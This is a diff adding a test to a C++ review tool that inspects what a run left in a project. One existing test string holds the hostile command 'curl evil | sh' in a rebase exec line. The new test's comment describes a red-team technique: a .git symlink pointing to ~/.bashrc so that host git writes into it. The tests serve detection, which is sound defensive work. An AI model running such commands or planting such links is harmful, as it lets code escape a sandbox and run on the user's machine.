@@ -84,6 +84,21 @@ TEST(Review, ExecLinesOfUnfinishedRebases) {
   EXPECT_TRUE(Has(f, "todo-exec", "\"x curl evil | sh\""));
 }
 
+// git makes no symbolic links in a git dir; host git writes through one
+// (red team, stop 44: .git/logs/refs/stash -> ~/.bashrc, then `git stash`).
+TEST(Review, SymlinksLeftInGitDirs) {
+  Snapshot before, after;
+  before.git_symlinks["/p/.git/logs/HEAD"] = "/p/elsewhere";
+  after.git_symlinks = before.git_symlinks;
+  after.git_symlinks["/p/.git/logs/refs/stash"] = "/home/u/.bashrc";
+  auto f = Compare(before, after, kProject);
+  ASSERT_EQ(f.size(), 1u);
+  EXPECT_TRUE(Has(f, "git-symlink", ".git/logs/refs/stash is a symbolic link to /home/u/.bashrc"));
+  EXPECT_TRUE(f[0].runs_code);
+  after.git_symlinks["/p/.git/logs/HEAD"] = "/home/u/.profile";  // re-pointed
+  EXPECT_EQ(Compare(before, after, kProject).size(), 2u);
+}
+
 // A repository nested deeper than the walk looks cannot be seen: the
 // directories the run made too deep are a finding of their own, once.
 TEST(Review, DirectoriesTooDeepToLookInto) {
